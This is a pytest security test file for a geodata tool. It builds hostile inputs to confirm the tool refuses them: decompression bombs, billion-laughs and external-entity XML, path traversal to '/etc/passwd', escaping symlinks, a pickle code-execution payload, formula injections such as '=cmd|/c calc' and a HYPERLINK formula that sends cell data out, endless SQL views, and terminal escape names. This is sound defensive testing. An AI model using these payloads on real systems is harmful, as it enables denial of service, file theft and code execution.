"""Files made to do harm: each is refused in one sentence, or what is in it stays text."""

from __future__ import annotations

import gzip
import io
import json
import os
import sys
import zipfile
from pathlib import Path

import pytest
from test_bad_input import edit, state

from hubmap.cli import main
from hubmap.errors import HubmapError, RecipeError, TableError
from hubmap.geodata.read import Manner, read_rows

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">'
        for a, b in zip("abcdefghijk", "bcdefghijkl", strict=True)
    )
    + "]>"
)


def refused(path: Path, **manner: str) -> str:
    with pytest.raises(TableError) as error:
        read_rows(path.parent, path.name, Manner(**manner))  # type: ignore[arg-type]
    assert str(path) in str(error.value)
    return str(error.value)


@pytest.fixture(scope="module")
def zeros() -> bytes:
    """300 MB of zeros, packed."""
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=6, mtime=0) as file:
        for _ in range(300):
            file.write(bytes(1 << 20))
    return out.getvalue()


def test_gzip_bomb(tmp_path: Path, zeros: bytes) -> None:
    path = tmp_path / "a.csv.gz"
    path.write_bytes(zeros)
    assert "far beyond its size" in refused(path)


def test_zip_bomb(tmp_path: Path) -> None:
    path = tmp_path / "a.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.csv", bytes(100 << 20))
    assert "far beyond its size" in refused(path)


def test_zip_in_a_zip_is_not_opened(tmp_path: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("a.csv", "id,name\n1,One\n")
    path = tmp_path / "a.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("b.zip", inner.getvalue())
    assert "holds no table" in refused(path)


def test_excel_bomb(tmp_path: Path) -> None:
    pytest.importorskip("openpyxl")
    path = tmp_path / "a.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (100 << 20))
    assert "unpacks to more than 64 MB" in refused(path)


@pytest.mark.parametrize("content", ["[" * 200_000, '{"a":' * 200_000, '[{"a":' * 100_000])
@pytest.mark.parametrize("suffix", ["json", "jsonl", "geojson"])
def test_deep_json(content: str, suffix: str, tmp_path: Path) -> None:
    path = tmp_path / f"a.{suffix}"
    path.write_text(content)
    if suffix == "jsonl":
        rows = read_rows(tmp_path, path.name, Manner())
        assert [one.line for _, one in rows.unread] == [1]
    else:
        refused(path)


def test_deep_outlines_recipes_and_ledgers(small: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from hubmap.ledger import Ledger
    from hubmap.recipes import read_toml

    (small / "geodata/regions.geojson").write_text("[" * 200_000)
    assert main(["-C", str(small), "build"]) == 1
    assert "not readable GeoJSON" in capsys.readouterr().err
    deep = small / "layers/ledger.json"
    deep.write_text("[" * 200_000)
    assert not Ledger(deep).fresh("a", "b", [])
    recipe = small / "maps/deep.toml"
    recipe.write_text("a = " + "[" * 100_000)
    with pytest.raises(RecipeError, match="not valid TOML"):
        read_toml(recipe)


@pytest.mark.parametrize(
    "name", ["../firms.csv", "/etc/passwd", "..", ".", "", "a/../../b.csv", "C:\\a.csv", "\\\\h\\a",
             ".hidden.csv", "http://example.org/a.csv", "/vsicurl/http://example.org/a.gpkg"],
)  # fmt: skip
def test_a_recipe_names_no_file_elsewhere(
    name: str, small: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    edit("geodata/firms.toml", '"firms.csv"', json.dumps(name))(small)
    assert main(["-C", str(small), "build"]) == 1
    assert "name a file beside the recipe, without a folder" in capsys.readouterr().err


@pytest.mark.parametrize("verb", ["build", "layers", "verify", "stats"])
def test_no_verb_takes_a_path_for_a_name(
    verb: str, small: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = state(small.parent)
    assert main(["-C", str(small), verb, "../../etc/passwd"]) == 1
    assert "there is no" in capsys.readouterr().err
    assert state(small.parent) == before


def test_members_of_an_archive_stay_inside(tmp_path: Path) -> None:
    inside = tmp_path / "inside"
    inside.mkdir()
    for number, name in enumerate(["../../evil.csv", "/tmp/evil.csv", "x\\evil.csv"]):
        path = inside / f"{number}.zip"
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr(name, "id,name\n1,One\n")
        before = sorted(tmp_path.rglob("*"))
        assert list(read_rows(inside, path.name, Manner()).cells["name"]) == ["One"]
        assert sorted(tmp_path.rglob("*")) == before
    assert not Path("/tmp/evil.csv").exists()


needs_links = pytest.mark.skipif(sys.platform == "win32", reason="links need a privilege")


@needs_links
@pytest.mark.parametrize("name", ["geodata/firms.csv", "geodata/regions.geojson", "maps/out.toml"])
def test_a_link_out_is_not_read(
    name: str, small: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    secret = tmp_path / "secret"
    secret.write_text("root:x:0:0")
    (small / name).unlink(missing_ok=True)
    (small / name).symlink_to(secret)
    assert main(["-C", str(small), "build"]) == 1
    said = capsys.readouterr().err
    assert "is a link that leads out of the workspace" in said
    assert "root:x" not in said


@needs_links
def test_a_link_inside_is_read(small: Path) -> None:
    (small / "geodata/firms.csv").rename(small / "geodata/real.csv")
    (small / "geodata/firms.csv").symlink_to("real.csv")
    assert main(["-C", str(small), "build"]) == 0


@needs_links
@pytest.mark.parametrize("name", ["maps", "layers/example-city"])
def test_nothing_is_written_through_a_link(
    name: str, small: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / ".mine.part").write_text("not a leftover of ours")
    for recipe in (small / "maps").glob("*.toml") if name == "maps" else ():
        recipe.rename(outside / recipe.name)
    if (small / name).exists():
        (small / name).rmdir()
    (small / name).symlink_to(outside)
    before = state(outside)
    assert main(["-C", str(small), "build"]) == 1
    assert "is a link that leads out of the workspace" in capsys.readouterr().err
    assert state(outside) == before


@needs_links
def test_a_product_that_is_a_link_is_replaced_not_followed(small: Path, tmp_path: Path) -> None:
    precious = tmp_path / "precious"
    precious.write_text("mine")
    (small / "maps/example-city.html").symlink_to(precious)
    assert main(["-C", str(small), "build"]) == 0
    assert precious.read_text() == "mine"
    assert not (small / "maps/example-city.html").is_symlink()


FORMULA = '=HYPERLINK("http://x"&A1)'


def test_formulas_in_csv_products_are_text(small: Path) -> None:
    import csv

    names = [FORMULA, "@SUM(1)", "+1", "-1+1"]
    rows = "".join(f'{9 + n},"{v}",10.0{n + 1},50.05,2012\n'.replace('="', "=")
                   if n else f'9,"{v.replace(chr(34), chr(34) * 2)}",10.01,50.05,2012\n'
                   for n, v in enumerate(names))  # fmt: skip
    table = small / "geodata/firms.csv"
    table.write_text(table.read_text() + rows + f'20,"{names[1]}",nowhere,50.05,2012\n')
    edit("geodata/firms.toml", "precision_m = 100", 'precision_m = 100\nfaults = "reject"')(small)
    edit("geodata/regions.csv", "X101,North District", 'X101,"=cmd|/c calc"')(small)
    assert main(["-C", str(small), "build"]) == 0
    assert main(["-C", str(small), "layers", "--format", "csv"]) == 0
    found = 0
    for path in (small / "layers").rglob("*.csv"):
        with path.open(newline="", encoding="utf-8") as file:
            for row in csv.reader(file):
                for cell in row:
                    try:
                        float(cell)
                    except ValueError:
                        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path, cell)
                    found += cell.startswith("'")
    assert found >= 6


def test_formulas_in_a_services_answers_are_text(tmp_path: Path) -> None:
    import csv

    from hubmap.geodata.answers import read_answers
    from hubmap.geodata.online import Answer, _table
    from hubmap.geodata.providers import PROVIDERS

    texts = [FORMULA, "@SUM(1)", "'quoted", "'=x", "plain"]
    answers = {text: Answer(10.0, 50.0, 100.0, FORMULA) for text in texts}
    path = tmp_path / "firms.places.csv"
    path.write_text(_table(answers, PROVIDERS["nominatim"], ["a"]), encoding="utf-8")
    with path.open(newline="", encoding="utf-8") as file:
        for row in csv.reader(file):
            assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@"))]
    assert set(read_answers(path)[1]) == set(texts), "what was joined by text is found again"


def test_a_pickle_in_parquet_is_not_loaded(tmp_path: Path) -> None:
    import pickle

    import pyarrow as pa
    import pyarrow.parquet as pq

    canary = tmp_path / "canary"

    class Evil:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return os.mkdir, (str(canary),)

    code = pickle.dumps(Evil())
    extension = {
        b"ARROW:extension:name": b"arrow.py_extension_type",
        b"ARROW:extension:metadata": code,
    }
    schema = pa.schema(
        [pa.field("id", pa.string(), metadata=extension), pa.field("name", pa.string())],
        metadata={b"pandas": code, b"geo": b"", b"hubmap": code},
    )
    path = tmp_path / "a.parquet"
    pq.write_table(pa.table([["1"], ["One"]], schema=schema), path)
    try:
        assert list(read_rows(tmp_path, path.name, Manner()).cells["name"]) == ["One"]
    except HubmapError as error:
        assert str(path) in str(error)  # noqa: PT017
    assert not canary.exists()
    (tmp_path / "a.pkl").write_bytes(code)
    assert "are not read" in refused(tmp_path / "a.pkl")
    assert not canary.exists()


@pytest.mark.parametrize("member", ["xl/worksheets/sheet1.xml", "xl/workbook.xml"])
@pytest.mark.parametrize("kind", ["laughs", "external"])
def test_entities_in_excel(member: str, kind: str, tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    secret = tmp_path / "secret"
    secret.write_text("root:x")
    book = openpyxl.Workbook()
    book.active.append(["id", "name"])
    book.active.append(["1", "NAME"])
    good = tmp_path / "good.xlsx"
    book.save(good)
    head = LAUGHS
    entity = "&l;"
    if kind == "external":
        head = f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'
        entity = "&x;"
    path = tmp_path / "a.xlsx"
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(path, "w") as target:
        for name in source.namelist():
            content = source.read(name).decode()
            if name in (member, "xl/sharedStrings.xml"):
                body = content.split("?>", 1)[-1] if content.startswith("<?xml") else content
                content = head + body.replace("NAME", entity).replace('"Sheet"', f'"{entity}"')
            target.writestr(name, content)
    try:
        cells = read_rows(tmp_path, path.name, Manner()).cells
    except HubmapError as error:
        assert str(path) in str(error)  # noqa: PT017
    else:
        assert "root:x" not in cells.to_csv()
        assert cells.to_csv().count("ha") < 100


def test_kml_is_not_read(tmp_path: Path) -> None:
    path = tmp_path / "a.kml"
    path.write_text(LAUGHS + "<kml>&l;</kml>")
    assert "tables of type `.kml` are not read" in refused(path)


VRT = (
    '<OGRVRTDataSource><OGRVRTLayer name="secret"><SrcDataSource>{secret}</SrcDataSource>'
    "</OGRVRTLayer></OGRVRTDataSource>"
)


@pytest.mark.parametrize("suffix", ["geojson", "gpkg", "fgb", "shp", "pbf"])
@pytest.mark.parametrize("content", ["vrt", "kml"])
def test_a_file_that_names_other_files_is_not_opened(
    suffix: str, content: str, tmp_path: Path
) -> None:
    """GDAL goes by the content, and a virtual data set in it could read any file or address."""
    secret = tmp_path / "secret.csv"
    secret.write_text("id,name\n1,root:x\n")
    path = tmp_path / f"a.{suffix}"
    path.write_text(
        VRT.format(secret=secret) if content == "vrt" else LAUGHS + "<kml><name>&l;</name></kml>"
    )
    assert "is no `" in refused(path)


def test_a_zip_in_a_gzip_is_not_opened(tmp_path: Path) -> None:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("a.csv", "id,name\n1,One\n")
    path = tmp_path / "a.zip.gz"
    path.write_bytes(gzip.compress(inner.getvalue()))
    assert "holds no table" in refused(path)


@pytest.mark.parametrize("method", [zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2])
def test_only_the_usual_packing_is_read(method: int, tmp_path: Path) -> None:
    path = tmp_path / "a.zip"
    with zipfile.ZipFile(path, "w", method) as archive:
        archive.writestr("a.csv", "id,name\n1,One\n" * 100)
    assert "packed by a method that is not read" in refused(path)


ENDLESS = (
    "CREATE VIEW v AS WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r) "
    "SELECT x AS id, 'n' AS name FROM r"
)


@pytest.mark.parametrize(
    ("view", "said"),
    [
        (ENDLESS, "more rows than the file has bytes"),
        (ENDLESS + " WHERE x < 0", "a view takes too long"),
        ("CREATE VIEW v AS SELECT 1 AS id, hex(zeroblob(400000000)) AS name", "too big"),
    ],
)
def test_a_view_without_end(view: str, said: str, tmp_path: Path) -> None:
    import sqlite3
    from contextlib import closing

    path = tmp_path / "a.sqlite"
    with closing(sqlite3.connect(path)) as base:
        base.execute(view)
        base.commit()
    assert said in refused(path)


def test_a_geopackage_that_computes_its_rows(tmp_path: Path) -> None:
    import sqlite3
    from contextlib import closing

    import geopandas as gpd
    import shapely

    path = tmp_path / "a.gpkg"
    points = gpd.GeoDataFrame({"id": ["1"]}, geometry=[shapely.Point(10, 50)], crs=4326)
    points.to_file(path, layer="t")
    assert len(read_rows(tmp_path, path.name, Manner()).cells) == 1
    with closing(sqlite3.connect(path)) as base:
        base.execute(ENDLESS)
        base.commit()
    assert "holds the view 'v'" in refused(path)


@pytest.mark.parametrize("kind", ["rows", "texts", "one text"])
def test_parquet_bomb(kind: str, tmp_path: Path) -> None:
    import numpy as np
    import pyarrow as pa
    import pyarrow.parquet as pq

    path = tmp_path / "a.parquet"
    if kind == "one text":
        table = pa.table({"id": ["1"], "name": ["x" * (80 << 20)]})
        pq.write_table(table, path, compression="zstd", use_dictionary=False)
    else:
        many = 4_000_000 if kind == "rows" else 60_000
        text = "x" if kind == "rows" else "x" * 500_000
        numbers = pa.array(np.zeros(many, dtype=np.int32))
        columns = ("id", "name", "a", "b") if kind == "rows" else ("id", "name")
        table = pa.table({n: pa.DictionaryArray.from_arrays(numbers, [text]) for n in columns})
        pq.write_table(table, path, compression="zstd", store_schema=False)
    assert path.stat().st_size < 1 << 18
    said = refused(path)
    assert "far beyond its size" in said or "take more than 256 MB" in said


def test_a_record_that_repeats_its_long_text(tmp_path: Path) -> None:
    path = tmp_path / "a.jsonl"
    path.write_text(json.dumps({"name": "x" * 100_000, "p": [{"a": 1}] * 3000}) + "\n")
    with pytest.raises(TableError, match="far beyond its size"):
        read_rows(tmp_path, path.name, Manner(paths=("name", "p[].a")))
    path.write_text(json.dumps({**{f"k{n}": 1 for n in range(999)}, "p": [{}] * 10_001}) + "\n")
    rows = read_rows(tmp_path, path.name, Manner(paths=("k1", "p[].a")))
    assert "more than 10,000,000 cells" in rows.unread[0][1].reason


@pytest.mark.parametrize("suffix", ["csv", "jsonl"])
def test_more_columns_than_a_table_has(suffix: str, tmp_path: Path) -> None:
    path = tmp_path / f"a.{suffix}"
    names = [f"c{n}" for n in range(20_000)]
    if suffix == "csv":
        path.write_text(",".join(names) + "\n" + "1," * 19_999 + "1\n")
    else:
        path.write_text("".join(json.dumps(dict.fromkeys(names[n::4], 1)) + "\n" for n in range(4)))
    assert "the table has 20,000 columns; 16,384 are read" in refused(path)


@needs_links
@pytest.mark.parametrize("name", ["geodata/firms.csv", "geodata/firms.toml"])
@pytest.mark.parametrize("verb", ["check", "build"])
def test_pipes_and_links_to_themselves(
    name: str, verb: str, small: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = small / name
    path.unlink()
    os.mkfifo(path)
    assert main(["-C", str(small), verb]) == 1
    assert f"{path}: " in capsys.readouterr().err
    path.unlink()
    path.symlink_to(path.name)
    assert main(["-C", str(small), verb]) == 1
    assert f"{path}: is a link" in capsys.readouterr().err


def test_messages_do_not_steer_the_terminal(tmp_path: Path) -> None:
    path = tmp_path / "a.zip"
    with zipfile.ZipFile(path, "w") as archive:
        for name in ("\u202egpj\x1b[31m.csv", "b\nc.csv"):
            archive.writestr(name, "id,name\n1,One\n")
    said = refused(path)
    assert said.isprintable()
    assert r"\x202egpj\x1b[31m.csv" in said


def test_marks_of_the_encoding_are_no_part_of_a_header(tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_bytes(b"\xef\xbb\xbf\xef\xbb\xbfid,name\n1,One\n")
    assert read_rows(tmp_path, "a.csv", Manner()).columns == ["id", "name"]


@pytest.mark.parametrize(
    "name", ["layers/a\u202egpj.toml", "layers/a\nb.toml", "maps/\x1b[31m.toml", "maps/index.toml",
             "layers/rejected.toml"],
)  # fmt: skip
def test_names_of_recipes_that_cannot_be_names_of_products(
    name: str, small: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = name.partition("/")[0]
    if sys.platform == "win32" and not name.isprintable():
        pytest.skip("such files cannot be made")
    (small / name).write_bytes((small / folder / "example-city.toml").read_bytes())
    assert main(["-C", str(small), "build"]) == 1
    said = capsys.readouterr().err
    assert "its name cannot be used. Rename the file." in said
    assert said.strip().isprintable()


@needs_links
@pytest.mark.skipif(sys.platform == "darwin", reason="file names are UTF-8 there")
@pytest.mark.parametrize("folder", ["geodata", "layers", "maps"])
def test_a_name_that_is_not_utf_8(
    folder: str, small: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    Path(os.fsdecode(os.fsencode(small / folder) + b"/\xff.toml")).write_text("title = 'x'")
    assert main(["-C", str(small), "build"]) == 1
    assert "its name cannot be used" in capsys.readouterr().err


@pytest.mark.parametrize("name", ["...toml", "..toml", "._example-city.toml"])
def test_a_recipe_of_a_hidden_name_is_none(name: str, small: Path) -> None:
    """`..` would have been a hub whose layers lie in the workspace itself."""
    (small / "layers" / name).write_bytes((small / "layers/example-city.toml").read_bytes())
    before = sorted(path.name for path in small.iterdir())
    assert main(["-C", str(small), "build"]) == 0
    assert sorted(path.name for path in small.iterdir()) == before
    assert not list((small / "layers").glob("*.parquet"))


@pytest.mark.parametrize(
    ("value", "said"),
    [("9" * 5000, "not valid TOML"), ("inf", "finite number"), ("9" * 400, "valid number")],
)
def test_numbers_that_are_none(
    value: str, said: str, small: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    edit("geodata/firms.toml", "precision_m = 100", f"precision_m = {value}")(small)
    assert main(["-C", str(small), "build"]) == 1
    assert said in capsys.readouterr().err


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ("[10.15, 50.2]", "[1e308, 50.2]", "is beyond 180°"),
        ("[10.15, 50.2]", "[180.1, 50.2]", "is beyond 180°"),
        (
            "[[10.0, 50.1], [10.15, 50.1], [10.15, 50.2], [10.0, 50.2], [10.0, 50.1]]",
            "[[10.0, 50.1, 1], [10.15, 50.1, 2], [10.15, 50.2, NaN], [10.0, 50.2, 1e308],"
            " [10.0, 50.1, 1]]",
            "",
        ),
    ],
)
def test_outlines_beyond_the_globe_or_with_heights(
    old: str, new: str, said: str, small: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    edit("geodata/regions.geojson", old, new)(small)
    assert main(["-C", str(small), "build"]) == (1 if said else 0)
    assert said in capsys.readouterr().err


@pytest.mark.parametrize(
    "cell", ["=1", "＝1", "＋1", "－1", "＠x", "\t=1", "\r1", "\n1", " =1", "'＝"]
)
def test_marks_come_off_again(cell: str) -> None:
    from hubmap.geodata.formulas import marked, unmarked

    assert str(marked(cell)).startswith("'")
    assert unmarked(str(marked(cell))) == cell
    assert marked("A=1") == "A=1"


@pytest.mark.parametrize(
    "words",
    [["--url", "nonsense"], ["--url", "file:///x"], ["--timeout", "-1"], ["--delay", "-1"]],
)
def test_a_service_is_not_asked_without_an_address(
    words: list[str], small: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    question = ["geocode", "firms", "--provider", "photon", "--column", "name"]
    assert main(["-C", str(small), *question, *words]) == 1
    assert capsys.readouterr().err.startswith(
        f"hubmap: {words[0] if words[0] == '--url' else '--t'}"
    )


def test_verify_names_the_workspace_not_its_scratch(
    small: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["-C", str(small), "verify", "nope"]) == 1
    assert capsys.readouterr().err.startswith(f"hubmap: {small}: there is no map 'nope'")
